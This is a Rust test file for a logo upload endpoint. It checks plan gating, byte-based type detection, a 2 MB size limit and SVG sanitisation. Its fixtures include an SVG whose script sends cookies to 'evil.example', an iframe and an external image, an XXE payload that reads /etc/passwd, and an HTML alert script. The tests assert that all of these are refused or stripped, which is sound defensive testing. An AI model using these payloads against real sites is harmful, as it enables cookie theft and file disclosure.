//! The logo on an account's signs (issue 11 item 5): `PUT/GET/DELETE
//! /api/accounts/{id}/sign-logo`. Premium only (402 on Grátis); the type is read from the bytes
//! (a PNG named SVG, HTML typed PNG and a GIF are refused); over 2 MB is 413; an SVG is stored
//! without scripts, foreignObject or outside references; once stored, the account's sign files
//! draw it (their ETag changes) and `logo=nao` leaves it out.

use reqwest::Method;
use reqwest::StatusCode;
use tests::browser::Answer;

use crate::billing::support::{assert_plan_limit, go_premium, sandbox_app};
use crate::workspace::support::{PNG, Person, qrcode_body, sign_up};

fn logo_path(owner: &Person) -> String {
    Person::in_account(&owner.account_id, "/sign-logo")
}

async fn put_logo(owner: &mut Person, content_type: &str, bytes: Vec<u8>) -> Answer {
    let path = logo_path(owner);
    owner
        .browser
        .request(Method::PUT, &path, Some(content_type), Some(bytes))
        .await
}

const SVG: &str = r##"<svg xmlns="http://www.w3.org/2000/svg" xmlns:xlink="http://www.w3.org/1999/xlink" viewBox="0 0 40 20" onload="steal()">
<script>fetch('https://evil.example/'+document.cookie)</script>
<foreignObject width="40" height="20"><iframe xmlns="http://www.w3.org/1999/xhtml" src="https://evil.example"/></foreignObject>
<image href="https://evil.example/pixel.png" width="1" height="1"/>
<rect width="40" height="20" fill="#0a7"/>
</svg>"##;

#[tokio::test]
async fn a_free_account_is_offered_premium_and_nothing_is_stored() {
    let app = sandbox_app().await;
    let mut owner = sign_up(&app, "dona@padaria.test", "Dona").await;
    let refused = put_logo(&mut owner, "image/png", PNG.to_vec()).await;
    assert_plan_limit(&refused, "logotipo nas placas");
    let path = logo_path(&owner);
    assert_eq!(owner.get(&path).await.status, StatusCode::NOT_FOUND);
    app.stop().await;
}

#[tokio::test]
async fn a_premium_account_stores_a_png_reads_it_back_and_removes_it() {
    let app = sandbox_app().await;
    let mut owner = sign_up(&app, "dona@padaria.test", "Dona").await;
    go_premium(&mut owner).await;
    let stored = put_logo(&mut owner, "image/png", PNG.to_vec()).await;
    assert_eq!(stored.status, StatusCode::OK, "{}", stored.text);
    assert_eq!(stored.json["contentType"], "image/png");
    let path = logo_path(&owner);
    let read = owner.get(&path).await;
    assert_eq!(read.status, StatusCode::OK);
    assert_eq!(read.header("content-type"), Some("image/png"));
    assert_eq!(read.header("x-content-type-options"), Some("nosniff"));
    let removed = owner.delete(&path).await;
    assert_eq!(removed.status, StatusCode::NO_CONTENT);
    assert_eq!(owner.get(&path).await.status, StatusCode::NOT_FOUND);
    app.stop().await;
}

#[tokio::test]
async fn the_type_is_read_from_the_bytes_and_the_size_is_limited_to_2_mb() {
    let app = sandbox_app().await;
    let mut owner = sign_up(&app, "dona@padaria.test", "Dona").await;
    go_premium(&mut owner).await;
    for (content_type, bytes, status, code, words) in [
        (
            "image/png",
            b"<html><script>alert(1)</script></html>".to_vec(),
            StatusCode::UNSUPPORTED_MEDIA_TYPE,
            "unsupported-logo-type",
            "PNG, JPEG ou SVG",
        ),
        (
            "application/octet-stream",
            b"GIF89a\x01\x00\x01\x00".to_vec(),
            StatusCode::UNSUPPORTED_MEDIA_TYPE,
            "unsupported-logo-type",
            "PNG, JPEG ou SVG",
        ),
        (
            "image/svg+xml",
            PNG.to_vec(),
            StatusCode::UNSUPPORTED_MEDIA_TYPE,
            "unsupported-logo-type",
            "o conteúdo é image/png",
        ),
        (
            "text/html",
            PNG.to_vec(),
            StatusCode::UNSUPPORTED_MEDIA_TYPE,
            "unsupported-logo-type",
            "PNG, JPEG ou SVG",
        ),
        (
            "image/svg+xml",
            br#"<!DOCTYPE svg [<!ENTITY x SYSTEM "file:///etc/passwd">]><svg xmlns="http://www.w3.org/2000/svg" width="1" height="1">&x;</svg>"#.to_vec(),
            StatusCode::UNPROCESSABLE_ENTITY,
            "invalid-logo",
            "DOCTYPE",
        ),
    ] {
        let refused = put_logo(&mut owner, content_type, bytes).await;
        assert_eq!(refused.status, status, "{content_type}: {}", refused.text);
        assert_eq!(refused.code(), code, "{}", refused.text);
        assert!(refused.message().contains(words), "{}", refused.message());
    }
    let mut big = PNG.to_vec();
    big.resize(2 * 1024 * 1024 + 10, 0);
    let refused = put_logo(&mut owner, "image/png", big).await;
    assert_eq!(
        refused.status,
        StatusCode::PAYLOAD_TOO_LARGE,
        "{}",
        refused.text
    );
    assert_eq!(refused.code(), "logo-too-large");
    assert!(refused.message().contains("2 MB"));
    let path = logo_path(&owner);
    assert_eq!(
        owner.get(&path).await.status,
        StatusCode::NOT_FOUND,
        "nothing stored"
    );
    app.stop().await;
}

#[tokio::test]
async fn an_svg_logo_is_stored_sanitised_and_drawn_on_the_accounts_signs() {
    let app = sandbox_app().await;
    let mut owner = sign_up(&app, "dona@padaria.test", "Dona").await;
    go_premium(&mut owner).await;
    let codes = Person::in_account(&owner.account_id, "/qrcodes");
    let made = owner.post(&codes, &qrcode_body("Padaria")).await;
    assert_eq!(made.status, StatusCode::CREATED, "{}", made.text);
    let id = made.json["id"].as_str().expect("id").to_owned();
    let before = app.get(&format!("/placas/{id}.svg")).await;
    assert_eq!(before.status(), StatusCode::OK);
    let etag_before = before.headers()["etag"].clone();

    let stored = put_logo(&mut owner, "image/svg+xml", SVG.as_bytes().to_vec()).await;
    assert_eq!(stored.status, StatusCode::OK, "{}", stored.text);
    let path = logo_path(&owner);
    let clean = owner.get(&path).await;
    for gone in [
        "script",
        "onload",
        "foreignObject",
        "iframe",
        "evil.example",
        "<image",
    ] {
        assert!(!clean.text.contains(gone), "{gone} in {}", clean.text);
    }
    assert!(clean.text.contains("#0a7"), "{}", clean.text);
    assert!(
        clean
            .header("content-security-policy")
            .is_some_and(|csp| csp.contains("sandbox"))
    );

    let with_logo = app.get(&format!("/placas/{id}.svg")).await;
    assert_ne!(with_logo.headers()["etag"], etag_before, "a new file");
    let svg = with_logo.text().await.expect("svg");
    assert!(svg.contains("<image"), "the sign embeds the logo");
    assert!(!svg.contains("evil.example") && !svg.contains("script"));
    let pdf = app.get(&format!("/placas/{id}.pdf")).await;
    assert_eq!(pdf.status(), StatusCode::OK);
    let without = app.get(&format!("/placas/{id}.svg?logo=nao")).await;
    assert_eq!(
        without.headers()["etag"],
        etag_before,
        "logo=nao is the sign without it"
    );
    app.stop().await;
}
